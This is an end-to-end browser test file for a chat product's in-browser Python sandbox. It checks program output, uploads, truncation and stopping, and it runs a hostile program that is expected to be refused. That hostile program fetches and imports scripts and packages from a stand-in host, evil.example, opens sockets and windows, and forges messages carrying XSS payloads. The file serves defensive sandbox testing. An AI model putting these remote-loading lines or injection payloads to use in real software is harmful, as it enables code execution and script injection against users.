"""Programs of an answer, run in the browser; what a hostile one does not reach."""

import json
import re
from collections.abc import Callable

import pytest
from playwright.sync_api import FilePayload, Locator, Page, expect

from tests.e2e.inserted_conversations import insert_branch
from tests.e2e.test_accessibility import assert_accessible
from tests.e2e.users import Person, SignUp, Visitor
from tests.support.scripted import ScriptedProduct

PROGRAM = """# squares.py
import csv, os, random, sqlite3, sys
if os.path.exists("forever.txt"):
    print("begun", os.path.exists("left"), random.random())
    open("left", "w")
    while True: pass
if os.path.exists("flood.txt"):
    for number in range(110):
        print("line", number, "-" * 9_900)
print("squares:", [number ** 2 for number in range(5)])
print("to standard error", file=sys.stderr)
with open("points.csv") as file:
    points = [(float(x), float(y)) for x, y in csv.reader(file)]
line = " ".join(f"{x * 10},{100 - y * 10}" for x, y in points)
drawn = f'<polyline points="{line}" fill="none" stroke="teal"/><script>alert(1)</script>'
with open("plot.svg", "w") as file:
    file.write(f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">{drawn}</svg>')
sum(y for _, y in points)
"""
# Each is tried by the program itself, as a model would have written it.
ATTEMPTS = {
    "our API": "await js.fetch(ORIGIN + '/api/me')",
    "our files": "await js.fetch(ORIGIN + '/static/app/favicon.svg')",
    "another server": "await js.fetch('https://evil.example/')",
    "an older request": "request()",
    "a socket": "await heard(js.WebSocket.new('wss://evil.example/'))",
    "an event source": "await heard(js.EventSource.new('https://evil.example/'))",
    "a script": "js.importScripts('https://evil.example/x.js')",
    "a package": "await pyodide_js.loadPackage('https://evil.example/x-1.0-py3-none-any.whl');"
    " import x",
    "a connection of Python's own": "urllib.request.urlopen('https://evil.example/')",
    "evaluation": "js.eval('1 + 1')",
    "databases": "await heard(js.indexedDB.open('x'))",
    "caches": "await js.caches.keys()",
    "the page": "js.document.body",
    "a window": "js.window.open('https://evil.example/')",
    "the keyboard": "input('?')",
}
HOSTILE = """
import asyncio, json, urllib.request
import js, pyodide_js
from pyodide.ffi import create_once_callable, to_js
ORIGIN = {origin}
async def heard(thing):
    came = asyncio.get_running_loop().create_future()
    thing.onopen = thing.onsuccess = create_once_callable(lambda _: came.set_result(1))
    thing.onerror = create_once_callable(lambda _: came.set_exception(OSError()))
    return await asyncio.wait_for(came, 4)
def request():
    asked = js.XMLHttpRequest.new()
    asked.open("GET", ORIGIN + "/api/me", False)
    asked.send()
came = {{}}
{attempts}
def forge(kind):
    forged = {{"type": kind, "stream": "out", "text": "<img src=x onerror=alert(1)>\\n"}}
    js.postMessage(to_js(forged, dict_converter=js.Object.fromEntries))
forge("start")
forge("ready")
forge("output")
print("REPORT", json.dumps(came), flush=True)
"""
FORGED_END = 'forge("ended")\n'


@pytest.fixture
def visit(visit_scripted: Callable[..., Visitor]) -> Callable[..., Visitor]:
    return visit_scripted


def panel(page: Page) -> Locator:
    return page.get_by_role("complementary", name="Artifact")


def output(page: Page) -> Locator:
    return panel(page).get_by_role("region", name="Output of the program")


def hostile(url: str) -> str:
    """A program that tries what it may not, and says what came of it; `url` is the product's."""
    attempts = "".join(
        f"try:\n    {tried}\n    came[{name!r}] = 'came through'\n"
        f"except BaseException: came[{name!r}] = 'refused'\n"
        for name, tried in ATTEMPTS.items()
    )
    return HOSTILE.format(origin=json.dumps(url), attempts=attempts)


def reported(shown: Locator) -> object:
    """What a hostile program said at its end."""
    found = re.search(r"REPORT (\{.*\})", shown.inner_text())
    assert found
    return json.loads(found[1])


def run(person: Person, product: ScriptedProduct, title: str, code: str) -> Locator:
    """Goes to a chat with this title whose answer is this program, and runs it."""
    texts = ["Write it", f"```python\n{code}\n```"]
    person.go(f"/c/{insert_branch(product, person, title, texts)}")
    person.answer.get_by_role("button", name="Run").click()
    return panel(person.page)


def test_program_runs_takes_files_is_cut_stopped_and_run_again_and_a_hostile_one_reaches_nothing(
    sign_up: SignUp, scripted_product: ScriptedProduct
) -> None:
    person = sign_up()
    page = person.page
    person.open("/")
    shown = run(person, scripted_product, "Squares", PROGRAM)
    expect(shown.get_by_role("heading", name="squares.py")).to_be_visible()
    expect(output(page)).to_contain_text("squares: [0, 1, 4, 9, 16]")
    expect(output(page)).to_contain_text("to standard error")
    expect(shown.get_by_text("Ended with an error")).to_be_visible()
    # The traceback begins at the program's own line.
    expect(output(page)).to_contain_text("FileNotFoundError")
    assert "_pyodide" not in output(page).inner_text()

    rows = b"1,2\n3,4.5\n9,9\n"
    points = FilePayload(name="points.csv", mimeType="text/csv", buffer=rows)
    shown.locator("input[type=file]").set_input_files(points)
    shown.get_by_role("button", name="Run again").click()
    expect(shown.get_by_text("Finished")).to_be_visible()
    expect(output(page)).to_contain_text("15.5")
    image = shown.get_by_role("img", name="plot.svg")
    expect(image).to_be_visible()
    assert image.evaluate("async (image) => { await image.decode(); return image.naturalWidth; }")
    with page.expect_download() as download:
        shown.get_by_role("button", name="Download plot.svg").click()
    assert "<polyline" in download.value.path().read_text()
    assert download.value.suggested_filename == "plot.svg"
    assert_accessible(page, "a program's output")

    flood = FilePayload(name="flood.txt", mimeType="text/plain", buffer=b"1")
    shown.locator("input[type=file]").set_input_files(flood)
    shown.get_by_role("button", name="Run again").click()
    expect(output(page)).to_contain_text("more was written than is shown")
    expect(shown.get_by_text("Finished")).to_be_visible()
    assert "squares" not in output(page).inner_text()

    forever = FilePayload(name="forever.txt", mimeType="text/plain", buffer=b"1")
    shown.locator("input[type=file]").set_input_files(forever)
    shown.get_by_role("button", name="Run again").click()
    expect(output(page)).to_contain_text("begun False")
    first = output(page).inner_text()
    person.composer.fill("The page goes on")
    shown.get_by_role("button", name="Stop program").click()
    expect(shown.get_by_text("Stopped", exact=True)).to_be_visible()
    shown.get_by_role("button", name="Run again").click()
    expect(output(page)).to_contain_text("begun False")  # another Python, with an empty folder
    assert output(page).inner_text() != first, "it draws the numbers of the one before"
    shown.get_by_role("button", name="Close artifact").click()
    expect(person.composer).to_have_value("The page goes on")
    hostile_program_reaches_nothing_and_runs_on_a_phone(person, scripted_product)


def hostile_program_reaches_nothing_and_runs_on_a_phone(
    person: Person, product: ScriptedProduct
) -> None:
    """Dialogs, requests to other origins and errors fail the test at its end."""
    page = person.page
    page.set_viewport_size({"width": 390, "height": 844})
    person.visitor.expect_refusals()
    code = hostile(person.visitor.url) + FORGED_END
    run(person, product, "Hostile", code)
    expect(output(page)).to_contain_text("REPORT")
    expect(output(page)).to_contain_text("<img src=x onerror=alert(1)>")
    assert reported(output(page)) == dict.fromkeys(ATTEMPTS, "refused")
    assert person.visitor.tabs == [page]
    assert_accessible(page, "a program's output on a phone")
